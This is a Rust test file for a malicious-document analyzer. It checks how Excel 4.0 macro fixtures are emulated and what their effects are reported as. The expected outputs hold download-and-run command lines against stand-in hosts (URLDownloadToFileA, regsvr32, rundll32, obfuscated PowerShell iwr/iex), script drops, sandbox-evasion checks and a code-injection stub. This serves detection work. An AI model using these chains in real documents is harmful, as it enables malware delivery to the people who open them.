//! What macros do when they run, on the fixtures: whole effects, in order.

use std::sync::LazyLock;

use docsift::report::{Effect, EffectDetail, Report};
use docsift_corpus::biff::{Sheet, State};
use docsift_corpus::fixtures::{self, Fixture, twin};

fn report(name: &str) -> Report {
    static ALL: LazyLock<Vec<Fixture>> = LazyLock::new(fixtures::all);
    let fixture = ALL.iter().find(|fixture| fixture.name == name);
    docsift::analyze(&fixture.unwrap_or_else(|| panic!("no fixture {name}")).bytes)
}

fn detail(effect: &Effect) -> &EffectDetail {
    effect.detail.as_deref().unwrap_or_else(|| panic!("no fields: {}", effect.text))
}

/// Kind, cell and text of what was evaluated.
fn evaluated(report: &Report) -> Vec<String> {
    let effects = report.behaviour.iter().filter(|effect| effect.basis == "evaluated");
    let shown = effects.map(|effect| {
        let cell = effect.location.cell.as_deref().unwrap_or("?");
        let condition = effect.condition.as_ref().map(|text| format!(" if {text}")).unwrap_or_default();
        format!("{} {cell} {}{condition}", effect.kind, effect.text)
    });
    shown.collect()
}

#[test]
fn every_variant_of_the_twin_yields_its_four_pairs() {
    for name in [
        "twin.xls",
        "twin-relaunch-cells.xls",
        "twin-relaunch-textbox.xls",
        "twin-relaunch-picture.xls",
        "twin-name-disguised.xls",
    ] {
        let report = report(name);
        let fetched: Vec<_> = report
            .behaviour
            .iter()
            .filter(|effect| effect.kind == "fetch")
            .map(|effect| (detail(effect).url.clone().unwrap(), detail(effect).to.clone().unwrap()))
            .collect();
        let run: Vec<_> = report
            .behaviour
            .iter()
            .filter(|effect| effect.kind == "run")
            .map(|effect| detail(effect).command.clone().unwrap())
            .collect();
        let expected: Vec<_> =
            (1..).zip(twin::urls()).map(|(number, url)| (url, format!("..\\oxnv{number}.ooccxx"))).collect();
        assert_eq!(fetched, expected, "{name}");
        let commands: Vec<_> = (1..=4)
            .map(|number| format!("C:\\Windows\\System32\\regsvr32.exe /S ..\\oxnv{number}.ooccxx"))
            .collect();
        assert_eq!(run, commands, "{name}");
        let kinds: Vec<_> = report.behaviour.iter().map(|effect| effect.kind).collect();
        assert_eq!(kinds, ["fetch", "run"].repeat(4), "{name}");
    }
}

#[test]
fn loops_blocks_and_calls_decide_what_is_run() {
    assert_eq!(evaluated(&report("xlm-control-flow.xls")), ["run Macro1!A18 EXEC(done.exe)"]);
    assert_eq!(evaluated(&report("xlm-user-function.xls")), ["run Macro1!A1 EXEC(oxnv1.exe)"]);
}

#[test]
fn what_only_running_shows_is_found() {
    let powershell = "run Macro1!A20 EXEC(powershell -File oxnv1.ps1)";
    let cases: &[(&str, &[&str])] = &[
        ("run-for-loop.xls", &[powershell]),
        ("run-while-loop.xls", &[powershell]),
        ("run-format-key.xls", &[powershell]),
        (
            "run-text-in-formula.xls",
            &[
                "fetch Vrgt!G16 urlmon.URLDownloadToFileA(0, https://one.invalid/a=b&c/, ..\\oxnv1.ooccxx, 0, 0)",
                "run Vrgt!G18 EXEC(C:\\Windows\\System32\\regsvr32.exe /S ..\\oxnv1.ooccxx)",
            ],
        ),
        ("run-day-key.xls", &["run Macro1!A20 EXEC(powershell -File oxnv1.ps1) if DAY(NOW()) is 17"]),
        ("run-assignment.xls", &["run Macro1!A10 EXEC(oxnv1.exe)"]),
        ("run-overwrites-itself.xls", &["run Macro1!A1 EXEC(oxnv1.exe)"]),
        (
            "run-fallback.xls",
            &[
                "fetch Macro1!A1 urlmon.URLDownloadToFileA(0, http://one.invalid/a, ..\\oxnv1.dll, 0, 0)",
                "run Macro1!A2 EXEC(rundll32 ..\\oxnv1.dll,Start)",
                "fetch Macro1!A1 urlmon.URLDownloadToFileA(0, http://two.invalid/b, ..\\oxnv1.dll, 0, 0) if \
                 URLDownloadToFileA of http://one.invalid/a<>0 is TRUE",
            ],
        ),
        (
            "run-script-drop.xls",
            &["write Macro1!A1 FOPEN(..\\oxnv1.vbs)", "run Macro1!A5 EXEC(wscript ..\\oxnv1.vbs)"],
        ),
        (
            "run-batch-drop.xls",
            &[
                "write Macro1!A1 FOPEN(..\\oxnv1.bat)",
                "run Macro1!A5 EXEC(..\\oxnv1.bat)",
                "fetch Macro1!A5 http://files.invalid/a.dll to oxnv1.dll",
            ],
        ),
        (
            "run-pattern-replace.xls",
            &[
                "run Macro1!A1 EXEC(powershell -c iwr ('h12ttp:/7/fi3les.inv4alid/a.dll' -replace '\\d+','') \
                 -OutFile a.dll)",
                "run Macro1!A2 EXEC(powershell -c iex ('regs~vr3%2 /s a.d~~ll' -csplit '[~%]' -join ''))",
                "fetch Macro1!A1 http://files.invalid/a.dll to a.dll",
                "run Macro1!A2 regsvr32 /s a.dll",
            ],
        ),
        ("run-japan-only.xls", &["run Macro1!A3 EXEC(oxnv1.exe) if GET.WORKSPACE(37)<>81 is FALSE"]),
        (
            "xlm-environment.xls",
            &[
                "run Macro1!A5 EXEC(oxnv1.exe) if GET.WORKSPACE(13)<770 is FALSE and GET.WORKSPACE(14)<390 is \
                 FALSE and GET.WORKSPACE(19) is TRUE and GET.WORKSPACE(42) is TRUE",
                "close Macro1!A1 CLOSE(FALSE) if GET.WORKSPACE(13)<770 is TRUE",
                "close Macro1!A2 CLOSE(FALSE) if GET.WORKSPACE(14)<390 is TRUE",
                "close Macro1!A3 CLOSE(TRUE) if GET.WORKSPACE(19) is FALSE",
                "close Macro1!A4 CLOSE(TRUE) if GET.WORKSPACE(42) is FALSE",
            ],
        ),
        ("run-blocks-and-cells.xls", &["run Macro1!A11 EXEC(oxnv1.exe)"]),
        ("run-error-handler.xls", &["run Macro1!A5 EXEC(oxnv1.exe)"]),
        // What stands on a sheet that the macro made is told from where it was written.
        ("run-inserted-sheet.xls", &["run Macro1!A2 EXEC(oxnv1.exe)"]),
        (
            "xlm-event-hook.xls",
            &["persist Macro1!A1 ON.TIME({NOW}, Macro1!R5C1)", "run Macro1!A5 EXEC(oxnv1.exe)"],
        ),
    ];
    for (name, expected) in cases {
        assert_eq!(evaluated(&report(name)), *expected, "{name}");
    }
}

#[test]
fn a_written_file_has_what_was_written() {
    let report = report("run-script-drop.xls");
    let written = report.behaviour.iter().find(|effect| effect.kind == "write").unwrap();
    assert_eq!(detail(written).path.as_deref(), Some("..\\oxnv1.vbs"));
    assert_eq!(detail(written).content.as_deref(), Some("' line 1\r\nWScript.Quit"));
    let sentence = "Malicious: on opening it writes ..\\oxnv1.vbs and runs it with wscript.";
    assert_eq!(report.verdict.sentence, sentence);
}

#[test]
fn programs_without_an_end_end_at_a_limit_and_keep_what_was_found() {
    let stopped = |name: &str| {
        let report = report(name);
        let limits = report.problems.iter().filter(|problem| problem.kind == "limit_reached");
        let what = |message: &str| message.split(" (at most").next().unwrap_or_default().to_owned();
        let messages: Vec<_> = limits.map(|problem| what(&problem.message)).collect();
        (evaluated(&report), messages)
    };
    let stop = |what: &str| vec![format!("the run of a macro was stopped: limit reached: {what}")];
    let first = vec!["run Macro1!A1 EXEC(oxnv1.exe)".to_owned()];
    let steps = stop("steps");
    assert_eq!(stopped("run-ten-million.xls"), (first.clone(), steps.clone()));
    assert_eq!(stopped("run-calls-itself.xls"), (first.clone(), stop("nesting depth")));
    assert_eq!(stopped("xlm-endless-loop.xls"), (Vec::new(), steps));
    assert_eq!(stopped("run-overwrites-for-ever.xls"), (first.clone(), stop("steps")));
    let (effects, messages) = stopped("run-doubles-a-text.xls");
    assert_eq!((effects, messages), (Vec::new(), stop("steps")));
}

#[test]
fn tens_of_thousands_of_formulas_are_run_to_the_last() {
    let mut lines = vec!["SET.VALUE(B1,B1+1)"; 33_999];
    lines.push("EXEC(\"oxnv\"&B1&\".exe\")");
    let file = fixtures::xls(&fixtures::auto_open(State::Hidden, &lines));
    let (report, steps) = docsift::Analyzer::default().analyze_counting(&file);
    assert_eq!(evaluated(&report), ["run Macro1!A34000 EXEC(oxnv33999.exe)"]);
    assert!(report.verdict.complete, "{:?}", report.problems);
    assert!(steps < docsift::Limits::default().steps / 4, "{steps} steps");
}

#[test]
fn a_sylk_name_without_a_sheet_starts_the_macro() {
    let report = report("sylk-auto-open.slk");
    let starts: Vec<_> = report.behaviour.iter().filter_map(|effect| effect.detail.as_ref()?.start).collect();
    assert!(!starts.is_empty() && starts.iter().all(|start| *start == "auto_open"), "{starts:?}");
}

#[test]
fn the_first_line_says_what_happens() {
    let sentence = "Malicious: on opening it downloads hxxps://one[.]invalid/abc/ to ..\\oxnv1.ooccxx (and 3 more) \
                    and runs it with regsvr32.";
    assert_eq!(report("twin.xls").verdict.sentence, sentence);
}

fn report_of(name: &str) -> docsift::Report {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/synthetic").join(name);
    docsift::Analyzer::default().analyze(docsift::Input::named(&std::fs::read(path).unwrap(), name))
}

/// What a macro makes is a part: its way, its bytes, and what it is.
#[test]
fn what_a_macro_writes_is_a_part() {
    let made = |name: &str| {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/synthetic").join(name);
        let bytes = std::fs::read(path).unwrap();
        let mut made = Vec::new();
        docsift::Analyzer::default().analyze_with(docsift::Input::named(&bytes, name), &mut |view| {
            if matches!(view.part.kind.name(), "written_file" | "injected_memory") {
                made.push((view.path.to_owned(), view.bytes.to_vec(), view.part.sha256.is_some()));
            }
        });
        made
    };
    let one = |path: &str, bytes: &[u8]| vec![(path.to_owned(), bytes.to_vec(), true)];
    assert_eq!(
        made("run-code-injection.xls"),
        one("run-code-injection.xls!/Workbook!/memory1", b"\x90\x90\x90\x90\x90\x90\x90\xC3")
    );
    assert_eq!(
        made("run-script-drop.xls"),
        one("run-script-drop.xls!/Workbook!/..\\oxnv1.vbs", b"' line 1\r\nWScript.Quit")
    );
    assert_eq!(
        made("run-sheet-as-script.xls"),
        one("run-sheet-as-script.xls!/Workbook!/..\\oxnv1.vbs", b"' a script\r\nWScript.Quit\r\n")
    );
}

/// Excel saves the active sheet alone in a format of text, and of its cells the values.
#[test]
fn a_sheet_saved_as_text_is_the_active_one_with_its_values() {
    let saved = |lines: &[&str]| {
        let mut book = fixtures::auto_open(State::Hidden, lines);
        book.sheets[0] = Sheet::work("First").texts("A1", &["one"]).number("B1", 2.0);
        book.sheets.push(Sheet::work("Other").texts("A1", &["say \"a,b\"", "end"]).number("B2", 0.5));
        let report = docsift::analyze(&fixtures::xls(&book));
        let write = report.behaviour.iter().find(|effect| effect.kind == "write").unwrap();
        detail(write).content.clone().unwrap()
    };
    let first = "one\t2\r\n";
    let other = "\"say \"\"a,b\"\"\"\r\nend\t0.5\r\n";
    let save = "SAVE.AS(\"a.txt\",3)";
    assert_eq!(saved(&[save, "HALT()"]), first);
    assert_eq!(saved(&["WORKBOOK.ACTIVATE(\"Other\")", save, "HALT()"]), other);
    assert_eq!(saved(&["WORKBOOK.SELECT(\"First\",\"Other\")", save, "HALT()"]), other);
    assert_eq!(saved(&["WORKBOOK.COPY(\"Other\")", save, "HALT()"]), other);
    let written = ["WORKBOOK.ACTIVATE(\"Other\")", "FORMULA(\"=1+2\",Other!A1)", save, "HALT()"];
    assert_eq!(saved(&written), "3\r\nend\t0.5\r\n");
    assert_eq!(saved(&["SAVE.AS(\"a.csv\",6)", "HALT()"]), "one,2\r\n");
    let columns = "say \"a,b\"\r\nend 0.5\r\n";
    assert_eq!(saved(&["WORKBOOK.ACTIVATE(\"Other\")", "SAVE.AS(\"a.prn\",36)", "HALT()"]), columns);
}

/// The same unknown has one value in a run, another random number is another one.
#[test]
fn unknowns_stand_in_addresses_and_have_an_identity() {
    let report = report_of("run-unknown-address.xls");
    let urls: Vec<(&str, Option<&str>)> = report
        .indicators
        .iter()
        .filter(|indicator| indicator.kind == "url" && indicator.value.contains('{'))
        .map(|indicator| (indicator.value.as_str(), indicator.role))
        .collect();
    assert_eq!(
        urls,
        [
            ("http://one.invalid/{NOW}.dat?{NOW}", Some("payload")),
            ("http://0xC0000207/{RAND#1}{RAND#2}", Some("fallback")),
        ]
    );
    let address = report.indicators.iter().find(|indicator| indicator.kind == "ip").unwrap();
    assert_eq!((address.value.as_str(), address.role), ("192.0.2.7", Some("fallback")));
    assert!(address.condition.is_some(), "it is asked only when the first address fails");
}

#[test]
fn procedures_that_a_macro_runs_are_started() {
    let conditions = |name: &str| -> Vec<(&'static str, Option<String>)> {
        let report = report_of(name);
        let of_vba = report.behaviour.into_iter().filter(|effect| effect.basis == "seen_in_text");
        of_vba.map(|effect| (effect.kind, effect.condition)).collect()
    };
    let person = || Some("when a person starts the macro".to_owned());
    assert_eq!(conditions("vba-run-by-xlm.xls"), [("run", None), ("delete", None)]);
    assert_eq!(conditions("vba-run-by-xlm-umlaut.xls"), [("run", None), ("delete", None)]);
    assert_eq!(conditions("vba-not-run-by-xlm.xls"), [("run", person()), ("delete", person())]);
}

/// What a macro runs of VBA names the cell that does, and hangs on what that hangs on.
#[test]
fn effects_of_a_run_procedure_name_the_calling_cell() {
    let callers = |name: &str| -> Vec<(&'static str, Option<String>, Option<String>)> {
        let report = report_of(name);
        let of_vba = report.behaviour.into_iter().filter(|effect| effect.basis == "seen_in_text");
        let caller = |effect: &Effect| effect.detail.as_ref()?.caller.as_ref()?.cell.clone();
        of_vba.map(|effect| (effect.kind, caller(&effect), effect.condition)).collect()
    };
    let cell = |cell: &str| Some(format!("Macro1!{cell}"));
    let person = || Some("when a person starts the macro".to_owned());
    let mouse = || Some("GET.WORKSPACE(19) is TRUE".to_owned());
    assert_eq!(callers("vba-run-by-xlm.xls"), [("run", cell("A1"), None), ("delete", cell("A2"), None)]);
    assert_eq!(callers("vba-run-by-xlm-if.xls"), [("run", cell("A1"), mouse()), ("delete", None, person())]);
    let add_in = [("run", cell("A1"), None), ("delete", None, person())];
    assert_eq!(callers("vba-run-by-xlm-add-in.xls"), add_in);
}

/// Commands write a file in pieces and decode it: what comes out is a part with its bytes, and is read.
#[test]
fn a_workbook_that_commands_decode_is_read_and_run() {
    let report = report_of("run-echo-decode.xls");
    let made: Vec<(&str, &str)> = report
        .parts
        .iter()
        .filter(|part| part.path.contains("oxnv1"))
        .map(|part| (part.path.as_str(), part.kind))
        .collect();
    let workbook = "run-echo-decode.xls!/Workbook!/..\\oxnv1";
    assert_eq!(
        made,
        [(format!("{workbook}.txt").as_str(), "written_file"), (format!("{workbook}.xls").as_str(), "biff8")]
    );
    let runs = report.behaviour.iter().filter(|effect| effect.kind == "run");
    let runs: Vec<&str> = runs.map(|effect| effect.text.as_str()).skip(3).collect();
    assert_eq!(runs, ["..\\oxnv1.xls", "EXEC(oxnv2.exe)"]);
}

/// An archive in what a macro writes is opened, and the document in it is read and run.
#[test]
fn an_archive_that_a_macro_writes_is_read() {
    let report = report_of("run-writes-archive.xls");
    let made: Vec<(&str, &str)> = report
        .parts
        .iter()
        .filter(|part| part.path.contains("oxnv1.zip"))
        .map(|part| (part.path.as_str(), part.kind))
        .collect();
    let archive = "run-writes-archive.xls!/Workbook!/..\\oxnv1.zip";
    let document = format!("{archive}!/list.slk");
    assert_eq!(made, [(archive, "zip"), (document.as_str(), "slk")]);
    let run = report.behaviour.iter().find(|effect| effect.kind == "run").unwrap();
    assert_eq!((run.text.as_str(), run.basis), ("EXEC(oxnv2.exe)", "evaluated"));
}
